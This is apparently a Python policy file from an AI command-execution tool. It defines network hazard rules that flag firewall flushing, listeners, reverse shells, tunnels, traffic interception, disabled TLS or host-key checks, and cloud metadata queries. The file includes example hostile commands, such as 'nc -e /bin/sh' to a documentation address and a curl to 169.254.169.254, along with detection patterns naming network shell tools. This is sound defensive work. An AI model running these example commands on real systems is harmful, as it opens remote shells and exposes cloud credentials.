# ruff: noqa: E501 - an expression reads one line
"""Hazards of the network: doors opened, traffic watched or led astray, protection switched off."""

from execkit_mcp.model import Severity
from execkit_mcp.policy.hazards.names import SHELLS
from execkit_mcp.policy.hazards.shape import Hazard, Scene, Shape

_DEV_TCP = "/dev/tcp/"


def _connects(scene: Scene) -> bool:
    return _DEV_TCP in scene.text


HAZARDS = (
    Hazard(
        id="firewall",
        severity=Severity.HIGH,
        message="changes the firewall",
        shapes=(
            Shape(programs="iptables ip6tables", flags="-F -X -P -D -A -I --flush --policy"),
            Shape(programs="nft", sub="flush|delete|add"),
            Shape(programs="ufw", sub="disable|reset|delete|allow"),
            Shape(programs="firewall-cmd", anywhere=r"--(?:add|remove|panic|reload)"),
        ),
        example="iptables -F",
        harmless="iptables -L",
    ),
    Hazard(
        id="listener",
        severity=Severity.HIGH,
        message="opens a port to others",
        shapes=(
            Shape(programs="nc ncat netcat socat", flags="-l --listen"),
            Shape(programs="python python3", anywhere=r"http\.server"),
            Shape(programs="ngrok cloudflared localtunnel"),
        ),
        example="nc -l 4444",
        harmless="nc -z 192.0.2.1 22",
    ),
    Hazard(
        id="reverse-shell",
        severity=Severity.CRITICAL,
        message="hands a shell to another machine",
        shapes=(
            Shape(programs="nc ncat netcat nc.traditional nc.openbsd", flags="-e -c --exec --sh-exec"),
            Shape(programs="nc ncat netcat", anywhere=r"(?:^|\s)-\w*[ec]\b"),
            Shape(programs="socat", anywhere=r"(?i)exec:|system:"),
            Shape(programs=SHELLS, anywhere=r"/dev/tcp/|socket"),
        ),
        finder=_connects,
        found_with=_DEV_TCP,
        example="nc -e /bin/sh 192.0.2.1 4444",
        harmless="nc -z 192.0.2.1 22",
    ),
    Hazard(
        id="interface-change",
        severity=Severity.HIGH,
        message="changes addresses, routes or interfaces",
        shapes=(
            Shape(programs="ip", anywhere=r"\b(?:set|add|del|delete|flush|replace|change|append|restore)\b"),
            Shape(programs="ifconfig", anywhere=r"\S+ \S+"),
            Shape(programs="route", sub="add|del|delete|flush|change"),
            Shape(programs="ifup ifdown dhclient wg-quick brctl vconfig", anywhere=r"."),
            Shape(programs="tc bridge", anywhere=r"\b(?:add|del|delete|replace|change|set|flush|append|-b|-batch)\b"),
            Shape(
                programs="ethtool",
                anywhere=r"^(?:-[sAKCGLENUWXfrpQ]|--(?:set|change|config|flash|reset|negotiate|identify|per-queue|features|offload|pause|coalesce))\b",
            ),
            Shape(programs="nmcli", anywhere=r"\b(?:down|up|delete|modify|add|off|disconnect)\b"),
        ),
        example="ip link set eth0 down",
        harmless="ip addr show",
    ),
    Hazard(
        id="name-resolution",
        severity=Severity.HIGH,
        message="changes where names lead",
        shapes=(
            Shape(
                programs="resolvectl systemd-resolve",
                sub="dns|domain|revert|default-route|dnssec|dnsovertls|reset-server-features",
            ),
            Shape(programs="resolvconf", anywhere=r"."),
        ),
        writes=r"/etc/(?:hosts|resolv\.conf|nsswitch\.conf|resolvconf/.*|systemd/resolved\.conf.*)",
        example="tee -a /etc/hosts",
        harmless="cat /etc/hosts",
    ),
    Hazard(
        id="port-scan",
        severity=Severity.MEDIUM,
        message="probes other machines",
        shapes=(
            Shape(programs="nmap masscan zmap rustscan unicornscan nikto sqlmap gobuster ffuf wpscan nuclei dirb"),
        ),
        example="nmap 192.0.2.0/24",
        harmless="ss -tln",
    ),
    Hazard(
        id="packet-capture",
        severity=Severity.HIGH,
        message="records the traffic of others",
        shapes=(Shape(programs="tcpdump tshark dumpcap ngrep tcpflow snort ettercap wireshark"),),
        example="tcpdump -i eth0",
        harmless="ss -tn",
    ),
    Hazard(
        id="traffic-intercept",
        severity=Severity.HIGH,
        message="puts itself between others",
        shapes=(
            Shape(
                programs="arpspoof dnsspoof bettercap mitmproxy mitmdump mitmweb sslstrip sslsplit responder dsniff macof arping",
                anywhere=r".",
            ),
        ),
        example="arpspoof -t 192.0.2.1 192.0.2.2",
        harmless="ip neigh show",
    ),
    Hazard(
        id="tunnel",
        severity=Severity.HIGH,
        message="opens a way around the firewall",
        shapes=(
            Shape(programs="ssh autossh", flags="-L -R -D -w"),
            Shape(
                programs="chisel frpc frps bore sshuttle stunnel stunnel4 gost iodine ptunnel localtunnel lt zrok proxytunnel"
            ),
            Shape(programs="tailscale", sub="up|funnel|serve|set"),
            Shape(programs="socat", anywhere=r"(?i)(?:tcp|udp|unix|openssl)\d?-listen:"),
            Shape(programs="cloudflared", anywhere=r"\btunnel\b"),
        ),
        example="ssh -R 8080:localhost:80 host.example.com",
        harmless="ssh host.example.com uptime",
    ),
    Hazard(
        id="certificate-check-off",
        severity=Severity.MEDIUM,
        message="trusts whoever answers",
        shapes=(
            Shape(programs="curl", flags="-k --insecure --proxy-insecure --doh-insecure"),
            Shape(programs="wget", flags="--no-check-certificate"),
            Shape(programs="git", anywhere=r"(?i)http\.\S*sslverify[= ](?:false|0|off|no)\b"),
            Shape(programs="npm yarn pnpm", anywhere=r"(?i)strict-ssl[= ]false"),
            Shape(programs="pip pip3", anywhere=r"--trusted-host"),
            Shape(programs="kubectl oc", anywhere=r"--insecure-skip-tls-verify(?:=true)?(?:\s|$)"),
        ),
        example="curl -k https://example.com",
        harmless="curl https://example.com",
    ),
    Hazard(
        id="host-key-check-off",
        severity=Severity.MEDIUM,
        message="trusts whichever machine answers",
        shapes=(
            Shape(
                programs="ssh scp sftp rsync",
                anywhere=r"(?i)stricthostkeychecking[= ](?:no|off|accept-new)|userknownhostsfile[= ]/dev/null",
            ),
        ),
        example="ssh -o StrictHostKeyChecking=no host.example.com ls",
        harmless="ssh host.example.com ls",
    ),
    Hazard(
        id="cloud-metadata",
        severity=Severity.CRITICAL,
        message="asks for the identity of the machine it runs on",
        shapes=(
            Shape(
                programs="*",
                anywhere=r"169\.254\.169\.254|169\.254\.170\.2\b|metadata\.google\.internal|fd00:ec2::254|metadata\.azure\b|100\.100\.100\.200",
            ),
        ),
        example="curl http://169.254.169.254/latest/",
        harmless="curl https://example.com/latest/",
    ),
)
